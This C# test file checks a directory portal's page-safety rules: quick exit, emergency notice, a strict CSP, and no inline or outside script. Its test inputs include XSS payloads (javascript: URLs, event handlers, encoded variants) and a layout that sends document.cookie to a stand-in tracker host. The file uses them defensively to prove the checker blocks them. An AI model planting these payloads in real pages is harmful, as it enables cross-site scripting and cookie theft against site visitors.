using System.Text;
using DirectoryPortal.Model;
using DirectoryPortal.Tests.Support;
using DirectoryPortal.Write.Verify;

namespace DirectoryPortal.Tests.Write;

/// Every page a build makes is checked against the safety promises, whatever template made it, and the
/// checker reads markup the way a browser does.
public class PageSafetyTests
{
    private const string ExitUrl = "https://www.bbc.co.uk/weather";
    private const string Notice = "<p>In an emergency, call 999.</p>\n";

    private static string Page(string head = "", string body = "", string? csp = null, string? exit = null, string? notice = null) => $"""
        <!DOCTYPE html>
        <html lang="en-GB">
        <head>
        {csp ?? "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'; script-src 'self'; object-src 'none'\">"}
        <meta charset="utf-8">
        <title>T</title>
        {head}
        </head>
        <body>
        {exit ?? $"<div class=\"quick-exit\"><a class=\"quick-exit__button\" href=\"{ExitUrl}\" data-quick-exit>Exit this page</a></div>"}
        <a href="#main">Skip</a>
        <aside>{notice ?? Notice}</aside>
        <main id="main">{body}</main>
        </body>
        </html>
        """;

    private static List<PageViolation> Check(string html, string path = "services/x/index.html")
    {
        var found = new List<PageViolation>();
        new PageSafety(ExitUrl, _ => Notice).Check(path, Encoding.UTF8.GetBytes(html), found);
        return found;
    }

    private static void AssertBreaks(string html, string rule)
    {
        var found = Check(html);
        Assert.True(found.Any(v => v.Rule == rule), $"expected {rule}, found: {string.Join("; ", found.Select(v => v.Rule + ": " + v.Message))}");
    }

    [Fact]
    public void A_page_that_keeps_every_promise_passes()
    {
        Assert.Empty(Check(Page(head: "<script src=\"../../assets/search.js\" defer></script><link rel=\"stylesheet\" href=\"../../assets/base.css\">" +
            "<link rel=\"canonical\" href=\"https://directory.example.org/services/x/\">",
            body: "<a href=\"https://www.refuge.org.uk/\" rel=\"noopener\">Refuge</a> <a href=\"tel:+448082000247\">call</a> <a href=\"sms:61016\">text</a>" +
                  "<a href=\"mailto:help@example.org?subject=a&amp;b\">mail</a><img src=\"../../images/logo.png\" alt=\"\">" +
                  "<form action=\"../../search.html\"><input name=\"q\"></form><!-- <script>alert(1)</script> --><p title=\"a > b\">x</p>")));
    }

    [Fact]
    public void Structured_data_passes_only_as_one_block_of_valid_json_of_the_exact_type()
    {
        Assert.Empty(Check(Page(head: "<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\",\"@type\":\"Service\"}</script>")));
        AssertBreaks(Page(head: "<script type=\"application/ld+json\">{not json</script>"), PageRule.InlineScript);
        AssertBreaks(Page(head: "<script type=\"application/ld+json\">{\"a\":1} alert(1)</script>"), PageRule.InlineScript);
        AssertBreaks(Page(head: "<script type=\"application/ld+json\">{\"a\":1} {\"b\":2}</script>"), PageRule.InlineScript);
        AssertBreaks(Page(head: "<script type=\"application/ld+json\"> </script>"), PageRule.InlineScript);
        AssertBreaks(Page(head: "<script type=\"application/ld+json\" src=\"https://evil.example/x.json\">{}</script>"), PageRule.InlineScript);
        AssertBreaks(Page(head: "<script type=\"text/javascript\">{\"a\":1}</script>"), PageRule.InlineScript);
        AssertBreaks(Page(head: "<script type=\"module\">{}</script>"), PageRule.InlineScript);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<script src=\"../../assets/a.js\">alert(1)</script>")]
    [InlineData("<SCRIPT>alert(1)</SCRIPT>")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"JaVaScRiPt:alert(1)\">x</a>")]
    [InlineData("<a href=\" java\tscript:alert(1)\">x</a>")]
    [InlineData("<a href=\"&#106;avascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"javascript&colon;alert(1)\">x</a>")]
    [InlineData("<a href=\"&#x6A;&#x61;vascript&#58;alert(1)\">x</a>")]
    [InlineData("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>")]
    [InlineData("<form action=\"javascript:alert(1)\"></form>")]
    public void Inline_script_in_any_form_is_found(string markup) => AssertBreaks(Page(body: markup), PageRule.InlineScript);

    [Theory]
    [InlineData("<img src=\"x.png\" onerror=\"alert(1)\">")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<body onload=\"alert(1)\">")]
    [InlineData("<div ONCLICK=\"alert(1)\">x</div>")]
    [InlineData("<svg onload=alert(1)>")]
    [InlineData("<p title=\"a\"onmouseover=\"alert(1)\">x</p>")]
    public void Event_handler_attributes_are_found(string markup) => AssertBreaks(Page(body: markup), PageRule.EventHandler);

    [Fact]
    public void What_only_looks_like_an_event_handler_is_not_one()
    {
        // The tokenizer reads "x/onerror=alert(1)" as the unquoted value of src, as browsers do.
        Assert.DoesNotContain(Check(Page(body: "<img/src=x/onerror=alert(1)>")), v => v.Rule == PageRule.EventHandler);
        Assert.DoesNotContain(Check(Page(body: "<p title=\"onclick=alert(1)\">x</p><!-- <img onerror=x> -->")), v => v.Rule == PageRule.EventHandler);
    }

    [Theory]
    [InlineData("<img src=\"https://tracker.example/p.gif\" alt=\"\">")]
    [InlineData("<img src=\"//tracker.example/p.gif\" alt=\"\">")]
    [InlineData("<img src=\"/\\tracker.example/p.gif\" alt=\"\">")]
    [InlineData("<img srcset=\"a.png 1x, https://tracker.example/b.png 2x\" alt=\"\">")]
    [InlineData("<iframe src=\"https://evil.example/\"></iframe>")]
    [InlineData("<form action=\"https://evil.example/collect\"><input name=q></form>")]
    [InlineData("<button formaction=\"https://evil.example/\">go</button>")]
    [InlineData("<a href=\"https://example.org/\" ping=\"https://tracker.example/\">x</a>")]
    [InlineData("<video poster=\"https://evil.example/p.png\"></video>")]
    [InlineData("<object data=\"https://evil.example/x.swf\"></object>")]
    [InlineData("<svg><image href=\"https://evil.example/p.png\"/></svg>")]
    [InlineData("<div style=\"background:url(https://tracker.example/p.gif)\">x</div>")]
    [InlineData("<a href=\"data:text/html,hi\">x</a>")]
    [InlineData("<a href=\"file:///etc/passwd\">x</a>")]
    public void References_to_other_hosts_are_found(string markup) => AssertBreaks(Page(body: markup), PageRule.OtherHost);

    [Fact]
    public void An_old_address_may_forward_at_once_to_a_page_of_the_site()
        => Assert.Empty(Check(Page(head: "<meta http-equiv=\"refresh\" content=\"0; url=../new-helpline/index.html\">")));

    [Theory]
    [InlineData("canonical")]
    [InlineData("ALTERNATE")]
    [InlineData(" alternate\tcanonical\nme ")]
    public void A_link_that_only_names_an_address_may_name_one_elsewhere(string rel)
        => Assert.Empty(Check(Page(head: $"<link rel=\"{rel}\" href=\"https://directory.example.org/pl/\">")));

    [Fact]
    public void Every_page_is_held_to_its_own_policy_after_another_page_passed()
    {
        var safety = new PageSafety(ExitUrl, _ => Notice);
        var found = new List<PageViolation>();
        safety.Check("a.html", Encoding.UTF8.GetBytes(Page()), found);
        Assert.Empty(found);
        safety.Check("b.html", Encoding.UTF8.GetBytes(Page(csp: "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'; script-src 'self' https://cdn.example\">")), found);
        Assert.Contains(found, v => v.Page == "b.html" && v.Rule == PageRule.CspFirst);
        safety.Check("c.html", Encoding.UTF8.GetBytes(Page()), found);
        Assert.DoesNotContain(found, v => v.Page == "c.html");
    }

    [Theory]
    [InlineData("<link rel=\"stylesheet\" href=\"https://cdn.example/x.css\">")]
    [InlineData("<script src=\"https://cdn.example/x.js\"></script>")]
    [InlineData("<link rel=\"preconnect\" href=\"https://fonts.example\">")]
    [InlineData("<link rel=\"icon\" href=\"//cdn.example/favicon.ico\">")]
    [InlineData("<link rel=\"canonical stylesheet\" href=\"https://cdn.example/x.css\">")]
    [InlineData("<link rel=\"alternate\tpreload\" href=\"https://cdn.example/x.js\">")]
    [InlineData("<link rel=\" \" href=\"https://cdn.example/x.css\">")]
    [InlineData("<link rel=\"alternate\rprefetch\" href=\"https://cdn.example/x.css\">")]
    [InlineData("<link rel=\"canonicalcanonicalcanonical\" href=\"https://cdn.example/x.css\">")]
    [InlineData("<base href=\"https://evil.example/\">")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0; url=//evil.example/\">")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0; url=javascript:alert(1)\">")]
    [InlineData("<meta http-equiv=\"REFRESH\" content=\"5\">")]
    [InlineData("<style>@import 'https://cdn.example/x.css';</style>")]
    public void References_to_other_hosts_in_the_head_are_found(string markup) => AssertBreaks(Page(head: markup), PageRule.OtherHost);

    [Theory]
    [InlineData("")]
    [InlineData("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'; script-src 'self' 'unsafe-inline'\">")]
    [InlineData("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">")]
    [InlineData("<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'self' https://cdn.example\">")]
    [InlineData("<meta http-equiv=\"Content-Security-Policy\" content=\"img-src 'self'\">")]
    public void The_policy_must_come_first_and_allow_no_inline_or_outside_script(string csp) => AssertBreaks(Page(csp: csp), PageRule.CspFirst);

    [Fact]
    public void The_policy_after_another_element_is_too_late()
    {
        var html = Page().Replace("<meta http-equiv", "<link rel=\"stylesheet\" href=\"a.css\"><meta http-equiv");
        AssertBreaks(html, PageRule.CspFirst);
    }

    [Theory]
    [InlineData("")]
    [InlineData("<a href=\"https://www.bbc.co.uk/weather\">Exit this page</a>")]
    [InlineData("<a href=\"https://evil.example/\" data-quick-exit>Exit this page</a>")]
    [InlineData("<a href=\"../../index.html\">Home</a><a href=\"https://www.bbc.co.uk/weather\" data-quick-exit>Exit</a>")]
    [InlineData("<button>Menu</button><a href=\"https://www.bbc.co.uk/weather\" data-quick-exit>Exit</a>")]
    public void The_quick_exit_must_be_the_first_tab_stop_and_go_to_the_neutral_site(string exit) =>
        AssertBreaks(Page(exit: exit).Replace("<a href=\"#main\">Skip</a>", exit.Length == 0 ? "<a href=\"#main\">Skip</a>" : ""), PageRule.QuickExit);

    [Theory]
    [InlineData("")]
    [InlineData("<p>In an emergency, call 111.</p>\n")]
    [InlineData("<!-- <p>In an emergency, call 999.</p>\n -->")]
    public void The_emergency_notice_must_be_shown(string notice) => AssertBreaks(Page(notice: notice), PageRule.EmergencyNotice);

    [Fact]
    public void A_site_layout_that_breaks_the_rules_fails_the_build_naming_page_and_rule_and_writes_nothing()
    {
        using var t = new TempContent();
        Assert.True(Builds.Run(t.Content, t.Output).Succeeded);
        var before = Snapshot.Of(t.Output);
        t.Write("layouts/404.cshtml", """
            @model DirectoryPortal.Render.ListPage
            @{ Layout = "layouts/_layout"; }
            <h1>Not found</h1>
            <script>fetch('https://tracker.example/?' + document.cookie)</script>
            <img src="https://tracker.example/pixel.gif" alt="" onload="this.remove()">
            <a href="javascript:history.back()">Back</a>
            """);
        var result = Builds.Run(t.Content, t.Output);
        Assert.False(result.Succeeded);
        var onPage = result.Problems.Where(p => p.File == "page 404.html").ToList();
        Assert.Contains(onPage, p => p.Field == PageRule.InlineScript);
        Assert.Contains(onPage, p => p.Field == PageRule.EventHandler);
        Assert.Contains(onPage, p => p.Field == PageRule.OtherHost);
        Assert.All(onPage, p => Assert.Contains("content/layouts/404.cshtml", p.Fix));
        Assert.All(onPage, p => Assert.True(p.Line > 1));
        Assert.Equal(before, Snapshot.Of(t.Output));
    }

    [Fact]
    public void A_site_layout_without_the_safety_furniture_fails_every_page()
    {
        using var t = new TempContent();
        var layout = File.ReadAllText(Path.Combine(Repo.Theme, "layouts", "_layout.cshtml"));
        t.Write("layouts/_layout.cshtml", layout
            .Replace("@{ await IncludeAsync(\"components/quick-exit/quick-exit\", Model); }", "")
            .Replace("@{ await IncludeAsync(\"components/emergency-notice/emergency-notice\", Model); }", "")
            .Replace("<meta charset=\"utf-8\">\n", "")
            .Replace("<head>\n", "<head>\n<meta charset=\"utf-8\">\n"));
        var result = Builds.Run(t.Content, t.Output);
        Assert.False(result.Succeeded);
        foreach (var rule in new[] { PageRule.CspFirst, PageRule.QuickExit, PageRule.EmergencyNotice })
            Assert.Contains(result.Problems, p => p.File == "page index.html" && p.Field == rule);
        Assert.False(Directory.Exists(t.Output));
    }

    [Fact]
    public void Every_page_of_the_shipped_site_keeps_every_promise()
    {
        var (result, output) = new DirectoryPortal.Pipeline.SiteBuilder(new DirectoryPortal.Pipeline.BuildOptions(Repo.Content, Repo.Theme, "unused") { Today = Checking.Today })
            .BuildInMemoryAsync().GetAwaiter().GetResult();
        Assert.DoesNotContain(result.Problems, p => p.File.StartsWith("page ", StringComparison.Ordinal));
        Assert.True(output!.Files.Keys.Count(PageVerifier.IsPage) > 50);
    }
}
